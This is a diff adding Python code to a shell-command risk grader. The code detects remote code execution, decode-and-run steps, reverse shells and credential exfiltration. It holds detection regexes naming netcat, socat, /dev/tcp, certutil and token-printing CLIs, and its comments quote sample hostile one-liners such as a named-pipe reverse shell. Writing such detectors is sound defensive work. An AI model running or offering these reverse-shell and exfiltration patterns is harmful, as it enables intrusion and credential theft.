+            url = _ref_url(target)
+            sev, grade, host = grade_url(url)
+            if grade == "vendor" and not runner.startswith("deno"):
+                sev, grade = Severity.MEDIUM, "unknown"  # a vendor's domain hosts installers, not arbitrary packages
+            elif grade == "unknown" and host in ("github.com", "gitlab.com") and not target.lower().startswith(("http://", "https://")) or \
+                    grade == "unknown" and host in ("github.com", "gitlab.com") and target.lower().startswith("git+"):
+                sev, grade = Severity.MEDIUM, "repository"  # a public repository's code, unpinned: reviewable, so medium
+            ref = "git ref" if not target.lower().startswith(("http://", "https://")) else "URL"
+            self.add(REMOTE_EXEC, m.start(1), m.end(), f"{runner} runs code from a {ref} ({grade_words(grade)}{': ' + host if host else ''})",
+                     sev, url, grade, host)
+
+    def installs(self) -> None:
+        """`npm i URL`, `pip install git+URL`: install scripts of a package fetched from a site run at once."""
+        for m in _LOLBIN.finditer(self.data):
+            self.remote(m, "A Windows system binary fetches and runs remote code")
+        for m in _INSTALL_URL.finditer(self.data):
+            tool = " ".join(self.text(m, 1).split()).lower()
+            for a in self.text(m, 2).split():
+                a = a.strip("'\"`.,;)")
+                if "=" in a and a.startswith("--"):
+                    a = a.split("=", 1)[1]
+                low = a.lower()
+                if not (low.startswith(("http://", "https://")) or _GIT_REF.search(a.encode("utf-8", "surrogatepass"))):
+                    continue
+                if "@" in a and "+" not in a and not low.startswith(("http", "git@")):
+                    a = a.split("@", 1)[1]  # `pkg @ git+https://..` (pip direct reference)
+                url = _ref_url(a)
+                sev, grade, host = grade_url(url)
+                if grade == "unknown" and host in ("github.com", "gitlab.com"):
+                    sev, grade = Severity.LOW, "repository"  # `pip install git+https://github.com/org/repo`: a common, reviewable install
+                elif grade in ("vendor", "release"):
+                    sev = Severity.LOW
+                self.add(REMOTE_EXEC, m.start(1), m.end(), f"{tool} installs a package from a {'URL' if low.startswith('http') else 'git ref'}, running its install scripts "
+                         f"({grade_words(grade)}{': ' + host if host else ''})", sev, url, grade, host)
+                break
+
+    def decodes(self) -> None:
+        for m in _DECODE.finditer(self.data):
+            self.add(DECODE_EXEC, m.start(), m.end(), "Encoded text decoded and run", Severity.CRITICAL)
+
+    # -- reverse shells --------------------------------------------------------------------
+    def reverse_shells(self) -> None:
+        d = self.data
+        for m in _DEV_TCP.finditer(d):
+            if _DEV_TCP_SHELL.search(d):
+                self.add(REVERSE_SHELL, 0, len(d), "Shell input or output wired to a /dev/tcp socket", Severity.CRITICAL)
+                break
+        for pattern, message in ((_NC_EXEC, "netcat hands a shell to a network peer"),
+                                 (_PIPE_SHELL_NET, "A shell piped to or from a network connection"),
+                                 (_SOCAT, "socat connects a shell to a network peer"),
+                                 (_PS_REVERSE, "PowerShell runs commands read from a TCP socket"),
+                                 (_AWK_INET, "awk runs commands read from a TCP socket")):
+            for m in pattern.finditer(d):
+                self.add(REVERSE_SHELL, m.start(), m.end(), message, Severity.CRITICAL)
+        m = _FIFO.search(d)
+        if m is not None and _SHELL_WORD.search(d):
+            fifo = _FIFO_PATH.search(d)
+            path = fifo.group(1) if fifo else b""
+            # the pipe's own path is read from and written to: `sh -i < /tmp/f | nc h p > /tmp/f`
+            if path and d.count(path) >= 3 and (b"< " + path in d or b"<" + path in d) and (b"> " + path in d or b">" + path in d):
+                self.add(REVERSE_SHELL, m.start(), m.end(), "A named pipe loops a shell through a network connection", Severity.CRITICAL)
+
+    # -- credentials to the network ---------------------------------------------------------
+    def credentials(self) -> None:
+        d = self.data
+        sinks = []
+        for pattern, what in _SINKS:
+            for m in pattern.finditer(d):
+                seg = self.text(m)
+                if what == "http" and not (_URL.search(m.group(0)) or "$" in seg or _DATA_FLAG.search(m.group(0))):
+                    continue
+                if what == "socket" and len(seg.split()) < 3 and "openssl" not in seg.lower():
+                    continue
+                sinks.append((m.start(), m.end(), what, seg))
+        if not sinks:
+            return
+        strong = [(m.start(), m.end(), "a credential command") for m in _CRED_COMMAND.finditer(d)]
+        for m in _PATHLIKE.finditer(d):
+            p = self.text(m)
+            if p.lower().rstrip("/").endswith((".pub", "known_hosts", ".ssh/config", ".env.example", ".env.sample", ".env.template")):
+                continue  # public keys, host lists and templates are not secrets
+            if c.is_credential_path(p.replace("$HOME", "~").replace("${HOME}", "~")):
+                strong.append((m.start(), m.end(), f"a credential file ({p[:60]})"))
+        dumps = [(m.start(), m.end(), "the whole environment") for m in _ENV_DUMP.finditer(d)]
+        for s0, s1, what, seg in sinks:
+            url = _first_url(seg)
+            _, grade, host = grade_url(url)
+            public = what == "gist" and ("--public" in seg or " -p" in seg)
+            secrets = self.secret_vars(seg, s0)
+            src = next(((a, b, w) for a, b, w in strong if a < s1), None)  # a source before the sink, or inside its arguments
+            # a credential path inside a DNS/grep-like sink's args is data read, not an upload, unless it is fed by a pipe
+            if src is not None and what == "dns" and not (src[0] < s0 or b"$(" in d[s0:src[0]] or b"`" in d[s0:src[0]]):
+                src = None  # a name looked up is not an upload unless a secret is spliced into it
+            if src is not None and (src[0] < s0 or s0 <= src[0] < s1):
+                if src[2] == "a credential command" and credential_command_goes_home(self.command, url):
+                    continue  # the CLI's own token to its own vendor
+                if src[0] < s0 and what == "http" and src[2] == "a credential command" and _HEADER_FLAG.search(seg.encode()) \
+                        and not _DATA_FLAG.search(seg.encode()) and "$" not in url and not self._piped_between(src[1], s0):
+                    # TOKEN=$(gh auth token); curl -H "Authorization: token $TOKEN" https://ghe.corp/api: authentication
+                    self.add(CRED_EXFIL, s0, s1, f"A credential command's token is sent in a header to {what} ({grade_words(grade)}{': ' + host if host else ''})",
+                             Severity.HIGH if grade in ("ip", "paste", "http") else Severity.MEDIUM, url, grade, host)
+                    continue
+                if s0 <= src[0] < s1 and what == "http" and _in_header(d, s0, src[0]) and not src[2].startswith("a credential file"):
+                    if grade not in ("ip", "paste", "http"):
+                        continue  # `-H "Authorization: Bearer $(gh auth token)"`: the token authenticates the request
+                sev = Severity.CRITICAL
+                self.add(CRED_EXFIL, min(src[0], s0), max(src[1], s1), f"{src[2].capitalize()} reaches {what} ({grade_words(grade)}{': ' + host if host else ''})",
+                         sev, url, grade, host)
+                continue
+            dump = next(((a, b, w) for a, b, w in dumps if a < s0 or s0 <= a < s1), None)
+            if dump is not None and what != "dns" or (dump is not None and dump[0] < s0):
+                self.add(CRED_EXFIL, min(dump[0], s0), max(dump[1], s1), f"The whole environment reaches {what} ({grade_words(grade)}{': ' + host if host else ''})",
+                         Severity.HIGH if grade not in ("ip", "paste", "http") else Severity.CRITICAL, url, grade, host)
+                continue
+            if secrets:
+                name, in_header = secrets[0]
+                if H.credential_goes_home(name, url) or grade in ("local", "vendor"):
+                    continue
+                if what == "http" and in_header and grade not in ("ip", "paste", "http"):
+                    continue  # a key in its request's auth header: ordinary API use
+                if what == "http" and not url:
+                    continue
+                sev = Severity.HIGH if grade in ("ip", "paste", "http", "lookalike") or what in ("dns", "gist", "mail", "ftp", "socket") else Severity.MEDIUM
+                self.add(CRED_EXFIL, s0, s1, f"Secret variable {name} reaches {what} ({grade_words(grade)}{': ' + host if host else ''})",
+                         sev, url, grade, host)
+                continue
+            if public:
+                self.add(CRED_EXFIL, s0, s1, "Files published as a public gist", Severity.MEDIUM)
+            elif what == "http" and grade == "paste" and _DATA_FLAG.search(seg.encode()):
+                self.add(CRED_EXFIL, s0, s1, f"Data uploaded to a paste or relay service ({host})", Severity.MEDIUM, url, grade, host)
+
+    def _piped_between(self, a: int, b: int) -> bool:
+        """Is the source's output piped into the sink (a `|` between them, not `||`)?"""
+        between = self.data[a:b].replace(b"||", b"")
+        return b"|" in between
+
+    def secret_vars(self, seg: str, s0: int) -> list[tuple[str, bool]]:
+        out = []
+        for m in _SECRET_VAR.finditer(seg.encode("utf-8", "surrogatepass")):
+            name = next((x for x in m.groups() if x), b"").decode("utf-8", "replace")
+            if not c.is_secret_env_name(name):
+                continue
+            before = seg.encode("utf-8", "surrogatepass")[:m.start()]
+            flag = before.rsplit(b" -", 1)[-1][:12].lower() if b" -" in before else b""
+            in_header = flag.startswith((b"h ", b"h\"", b"h'", b"-header", b"u ", b"-user", b"headers")) or b"authorization" in before[-60:].lower() \
+                or b"bearer" in before[-20:].lower() or b"token " in before[-20:].lower()
+            out.append((name, in_header))
+        return out
+
+    # -- structure (tree-sitter-bash) --------------------------------------------------------
+    def structure(self) -> None:
+        if not any(k in self.data for k in (b"$", b"`", b"<(", b"=")):
+            return  # nothing a pattern could not see
+        from .shell_flow import analyze_text
+
+        try:
+            found = analyze_text(self.command)
+        except (RecursionError, MemoryError, ValueError):
+            return
+        for f in found:
+            if f.kind not in (REMOTE_EXEC, DECODE_EXEC, REVERSE_SHELL, CRED_EXFIL):
+                continue
+            if f.kind == CRED_EXFIL and f.severity <= Severity.LOW:
+                continue
+            if any(x.kind == f.kind and x.start < f.end and f.start < x.end for x in self.facts):
+                continue
+            url = f.properties.get("url", "")
+            sev, grade, host = f.severity, "", H.host_of(url) if url else ""
+            if f.kind == REMOTE_EXEC:
+                sev, grade, host = grade_url(url)
+            self.facts.append(CommandFact(f.kind, sev, f.start, f.end, f.message, host, url, grade))
+
+    def result(self) -> list[CommandFact]:
+        out: list[CommandFact] = []
+        for f in sorted(self.facts, key=lambda f: (f.start, -int(f.severity))):
+            dup = next((i for i, x in enumerate(out) if x.kind == f.kind and x.start < f.end and f.start < x.end), None)
+            if dup is None:
+                out.append(f)
+            elif f.severity > out[dup].severity:
+                out[dup] = f
+        return out
+
+
+# Lines of a longer text worth grading (a shell script, a code block): a command word the
+# shell-structure analysis does not read (one-liners, runners, PowerShell, socket tools, token CLIs).
+# Written for a small automaton (few unbounded loops): it runs over every line of every script and prose file.
+TRIGGER = (
+    r"\b(?:python[23]?|node|ruby|perl|php|bun)(?:\.exe)?\s+(?:-\S+\s+)*-(?:c|e|r|p)\s|\bdeno\s+(?:run|install|eval)\b|"
+    r"\b(?:npx|bunx|pnpx|dlx|uvx|pipx|uv\s+tool\s+run)\b[^\n]*(?:github:|gitlab:|git\+|git@|https?://|#)|"
+    r"\|\s*(?:sudo\s+)?(?:ba|z|k|da)?sh\b|<\(\s*(?:curl|wget)|\$\(\s*(?:curl|wget)|\biex\b|invoke-expression|scriptblock|"
+    r"/dev/(?:tcp|udp)/|\bn(?:c|cat|etcat)\s+(?:\S+\s+)*-[ec]\s|\bsocat\b|s_client|\bmkfifo\b|tcpclient|"
+    r"credential(?:-\w+)?\s+(?:fill|get)|\bauth\s+token\b|find-(?:generic|internet)-password|print-(?:access|identity)-token|"
+    r"get-access-token|export-credentials|\bgist\s+create\b|\bbase(?:64|32)\s+-|frombase64|"
+    r"\b(?:install|add|i)\s+(?:-\S+\s+)*(?:\S+\s+@\s+)?(?:git\+|https?://|github:)|mshta|regsvr32|certutil|bitsadmin|<<<|/inet/tcp|"
+    r"\b(?:s3\s+(?:cp|sync)|gsutil|rclone|smbclient)\b|-outfile\b|"
+    r"\b(?:curl|wget|http|xh)\s[^\n]*\s(?:-d|--data[\w-]*|-f|--form|-t|--upload-file|--json|-k|--config)[\s=]|"
+    r"\b(?:dig|nslookup|host|drill)\s[^\n]*(?:\$\(|`)"
+)
+_LINE_TRIGGER = rx(r"(?i)(?:" + TRIGGER + r")")
+_PRINTED = ("echo ", "printf ", "print ", "log ", "info ", "warn ", "say ", "cat <<", "#", "//")
+
+
+def grade_lines(text: str, limit: int = 300) -> list[CommandFact]:
+    """The grader over each candidate line of a longer text, offsets into `text`. A line that only
+    prints a command (echo, printf, a comment) is lowered two steps: shown, not run."""
+    data = text.encode("utf-8", "surrogatepass")
+    to_char = _b2c(text, data)
+    out: list[CommandFact] = []
+    seen: set[int] = set()
+    for n, m in enumerate(_LINE_TRIGGER.finditer(data)):
+        if n >= limit:
+            break
+        b0 = data.rfind(b"\n", 0, m.start()) + 1
+        if b0 in seen:
+            continue
+        seen.add(b0)
+        b1 = data.find(b"\n", m.start())
+        b1 = len(data) if b1 < 0 else b1
+        line = data[b0:b1].decode("utf-8", "replace")
+        base = to_char(b0)
+        printed = line.lstrip().lower().startswith(_PRINTED)
+        for f in grade_command(line):
+            sev = max(f.severity.lowered(2), min(f.severity, Severity.LOW)) if printed else f.severity
+            out.append(CommandFact(f.kind, sev, base + f.start, base + f.end, f.message + (" (printed, not run)" if printed else ""),
+                                   f.host, f.url, f.grade))
+    return out
